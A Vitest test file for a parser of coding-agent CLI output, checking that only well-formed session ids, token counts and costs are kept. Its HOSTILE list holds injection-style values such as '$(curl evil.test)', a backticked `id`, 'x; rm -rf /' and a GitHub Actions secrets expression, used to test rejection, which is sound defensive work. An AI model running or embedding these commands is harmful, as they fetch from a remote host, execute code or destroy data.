import { describe, expect, it } from 'vitest'
import { parseAgentOutput } from '../../src/report/agent-output.js'

const HOSTILE = ['$(curl evil.test)', 'a\nb', '`id`', '${{ secrets.X }}', 'x; rm -rf /', '']

describe('parseAgentOutput: outputs that look like identifiers and numbers are only those', () => {
  it('keeps real session ids and token counts', () => {
    const c = parseAgentOutput(
      'claude',
      JSON.stringify({
        result: 'done',
        session_id: '0b7e4c1e-2f0a-4b8e-9d55-4f2d7c9a1b00',
        usage: { input_tokens: 12, output_tokens: 3 }
      })
    )
    expect(c).toEqual({
      result: 'done',
      sessionId: '0b7e4c1e-2f0a-4b8e-9d55-4f2d7c9a1b00',
      inputTokens: 12,
      outputTokens: 3
    })
    const x = parseAgentOutput('codex', '{"type":"thread.started","thread_id":"thread_abc-1"}')
    expect(x.sessionId).toBe('thread_abc-1')
  })

  it.each(HOSTILE)('drops a session id that is not one: %j', (sid) => {
    for (const agent of ['claude', 'gemini'] as const)
      expect(parseAgentOutput(agent, JSON.stringify({ session_id: sid })).sessionId).toBeUndefined()
    const codex = JSON.stringify({ type: 'thread.started', thread_id: sid })
    expect(parseAgentOutput('codex', codex).sessionId).toBeUndefined()
  })

  it('drops token counts that are not counts', () => {
    for (const n of [-1, 1.5, 1e300])
      expect(
        parseAgentOutput('claude', JSON.stringify({ usage: { input_tokens: n } })).inputTokens
      ).toBeUndefined()
  })

  it('keeps a reported cost in dollars, and drops one that is not an amount', () => {
    const cost = (v: unknown): number | undefined =>
      parseAgentOutput('claude', JSON.stringify({ total_cost_usd: v })).costUsd
    expect(cost(0.0123)).toBe(0.0123)
    for (const v of [-1, '1', 1e9, null]) expect(cost(v)).toBeUndefined()
  })

  it('keeps the result as text, whatever it holds (it is an output, never a command)', () => {
    const text = 'line\n::set-output name=x::y\nEOF\nghadelimiter_1'
    expect(parseAgentOutput('claude', JSON.stringify({ result: text })).result).toBe(text)
  })
})
